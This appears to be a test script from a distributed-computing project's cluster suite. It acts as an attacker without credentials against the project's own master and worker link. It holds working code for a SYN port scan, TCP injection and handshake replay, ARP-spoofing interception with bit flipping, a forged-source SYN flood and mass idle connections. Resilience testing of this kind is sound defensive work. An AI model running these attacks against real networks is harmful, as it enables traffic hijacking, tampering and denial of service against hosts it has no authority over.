"""Somebody on the workers' network without the secret, who writes packets himself.

    stranger_script.py WHAT HOST PORT WORKER SECONDS

against the master at HOST PORT and the link of the worker at the address WORKER; each prints what came of it:

scan      all ports of HOST, by a SYN each
knock     a TLS client without a certificate
inject    bytes with the right sequence number into the worker's link; records its next handshake, and sends that again
flip      sits between the worker and HOST (forged ARP answers), passes all on, and flips a bit now and then
flood     SYNs of forged senders, and calls with noise from all of his addresses
hold      10,000 calls that say nothing
"""

from __future__ import annotations

import contextlib
import errno
import os
import random
import resource
import selectors
import socket
import ssl
import subprocess
import sys
import time
from pathlib import Path

sys.path.append(str(Path(__file__).parents[2]))  # gcdist stays the installed one
from tests.cluster.packets import ACK, MOST_PAYLOAD, PSH, SYN, Cable, Segment, arp_answer

DEVICE = "eth0"
HELD = 10_000
SYN_PAUSE = 0.0002  # seconds between two packets


def say(text: str) -> None:
    print(text, flush=True)


def own_addresses() -> list[str]:
    told = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", DEVICE], capture_output=True, text=True, check=True)
    return [line.split()[3].split("/")[0] for line in told.stdout.splitlines()]


def mac_of(host: str) -> bytes:
    """After a call, which may be refused, the kernel knows it."""
    with contextlib.suppress(OSError):
        socket.create_connection((host, 9), timeout=0.5).close()
    told = subprocess.run(["ip", "neigh", "show", host, "dev", DEVICE], capture_output=True, text=True, check=True)
    words = told.stdout.split()
    return bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))


def scan(host: str, seconds: float) -> None:
    with Cable(DEVICE) as cable:
        mine, theirs = own_addresses()[0], mac_of(host)
        open_ports: set[int] = set()

        def look(spent: float) -> None:
            for segment in cable.segments(spent, 0.01):
                if segment is not None and segment.source == host and segment.flags & (SYN | ACK) == SYN | ACK:
                    open_ports.add(segment.from_port)

        for port in range(1, 1 << 16):
            cable.send(Segment(theirs, cable.mac, mine, host, 50_000, port, 1, 0, SYN).pack())
            if port % 500 == 0:
                look(0.01)
        look(seconds)
    say(f"open ports of {host}: {sorted(open_ports)}")


def knock(host: str, port: int) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with (
            socket.create_connection((host, port), timeout=10.0) as plain,
            context.wrap_socket(plain) as secured,
        ):
            say(f"came in: {secured.recv(100)!r}")
    except OSError as error:
        say(f"knocked: {error}")


def inject(host: str, port: int, worker: str, seconds: float) -> None:
    """The worker's link breaks at the bytes that are not its own; what it sends next is its new handshake."""
    last: Segment | None = None
    begin: int | None = None
    parts: dict[int, bytes] = {}
    tries = 0
    with Cable(DEVICE) as cable:
        for segment in cable.segments(seconds, 0.003):
            if segment is None:
                if last is not None and begin is None:  # the worker rests: these bytes are the next ones of its stream
                    forged = last._replace(
                        seq=last.next_seq, flags=PSH | ACK, payload=b"\x17\x03\x03\x00\x40" + os.urandom(64)
                    )
                    cable.send(forged.pack())
                    last, tries = None, tries + 1
                continue
            if segment.source != worker or segment.to_port != port:
                continue
            if segment.flags & SYN:
                begin, parts = segment.seq + 1, {}
            elif begin is not None and segment.payload:
                parts[(segment.seq - begin) % (1 << 32)] = segment.payload
            elif begin is None and segment.payload:
                last = segment
            if sum(map(len, parts.values())) > 20_000:
                break
    say(f"injected {tries} times; the worker {'called again' if begin is not None else 'did not notice'}")
    stream = bytearray()
    for at in sorted(parts):
        if at == len(stream):
            stream += parts[at]
    for cut in (len(stream), min(len(stream), 3000)):
        with socket.create_connection((host, port), timeout=10.0) as again:
            again.sendall(stream[:cut])
            answer = 0
            with contextlib.suppress(OSError):
                while got := again.recv(1 << 16):
                    answer += len(got)
        say(f"recorded handshake, {cut} bytes of it: {answer} bytes of answer, then the end")


def flip(host: str, port: int, worker: str, seconds: float) -> None:
    with Cable(DEVICE) as cable:
        gateway, victim = mac_of(host), mac_of(worker)
        passed = flipped = 0
        poison_at = 0.0
        flip_at = time.monotonic() + 2.0
        for segment in cable.segments(seconds, 0.05):
            now = time.monotonic()
            if now >= poison_at:
                cable.send(arp_answer(victim, worker, host, cable.mac))
                poison_at = now + 0.3
            if segment is None or segment.to_mac != cable.mac or segment.source != worker or segment.target != host:
                continue
            payload = segment.payload
            if len(payload) > 100 and segment.to_port == port and now >= flip_at:
                middle = len(payload) // 2
                payload = payload[:middle] + bytes([payload[middle] ^ 1]) + payload[middle + 1 :]
                flipped, flip_at = flipped + 1, now + 3.0
            for at in range(0, max(1, len(payload)), MOST_PAYLOAD):
                part = payload[at : at + MOST_PAYLOAD]
                seq = (segment.seq + at) % (1 << 32)
                cable.send(segment._replace(to_mac=gateway, from_mac=cable.mac, seq=seq, payload=part).pack())
                passed += 1
        for _ in range(5):  # the truth, until it is believed
            cable.send(arp_answer(victim, worker, host, gateway))
            time.sleep(0.5)
    say(f"passed {passed} segments on and flipped {flipped} bits")


def flood(host: str, port: int, seconds: float) -> None:
    mine, theirs = own_addresses(), mac_of(host)
    net = mine[0].rpartition(".")[0]
    rng = random.Random(0)
    until, packets, calls = time.monotonic() + seconds, 0, 0
    held: list[socket.socket] = []
    with Cable(DEVICE) as cable:
        while time.monotonic() < until:
            for _ in range(200):
                sender, its_port = f"{net}.{rng.randrange(200, 250)}", rng.randrange(1024, 1 << 16)
                seq = rng.randrange(1 << 32)
                cable.send(Segment(theirs, cable.mac, sender, host, its_port, port, seq, 0, SYN).pack())
                packets += 1
                time.sleep(SYN_PAUSE)
            for address in mine:
                line = socket.socket()
                line.setblocking(False)
                line.bind((address, 0))
                with contextlib.suppress(OSError):
                    line.connect((host, port))
                held.append(line)
                calls += 1
            for line in held:
                noise = (
                    os.urandom(500),
                    b"\x16\x03\x01\x40\x00\x01\x00\xff\xff" + bytes(5000),
                    b"GET / HTTP/1.1\r\n\r\n",
                )
                with contextlib.suppress(OSError):
                    line.send(rng.choice(noise))
            while len(held) > 1000:
                held.pop(0).close()
    say(f"flooded: {packets} SYNs of forged senders, {calls} calls from {len(mine)} addresses")


def hold(host: str, port: int, seconds: float) -> None:
    mine = own_addresses()
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    selector, came = selectors.DefaultSelector(), 0
    held: list[socket.socket] = []
    for i in range(HELD):
        line = socket.socket()
        line.setblocking(False)
        line.bind((mine[i % len(mine)], 0))
        if line.connect_ex((host, port)) != errno.EINPROGRESS:
            raise SystemExit(f"call {i} failed")
        selector.register(line, selectors.EVENT_WRITE)
        held.append(line)
    say(f"{len(held)} calls are out")
    until = time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0:
        for key, _ in selector.select(left):
            came += isinstance(key.fileobj, socket.socket) and not key.fileobj.getsockopt(
                socket.SOL_SOCKET, socket.SO_ERROR
            )
            selector.unregister(key.fileobj)
    say(f"{came} of {len(held)} calls were taken, and none of them said anything")


def main(what: str, host: str, port: int, worker: str, seconds: float) -> None:
    match what:
        case "scan":
            scan(host, seconds)
        case "knock":
            knock(host, port)
        case "inject":
            inject(host, port, worker, seconds)
        case "flip":
            flip(host, port, worker, seconds)
        case "flood":
            flood(host, port, seconds)
        case "hold":
            hold(host, port, seconds)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5]))
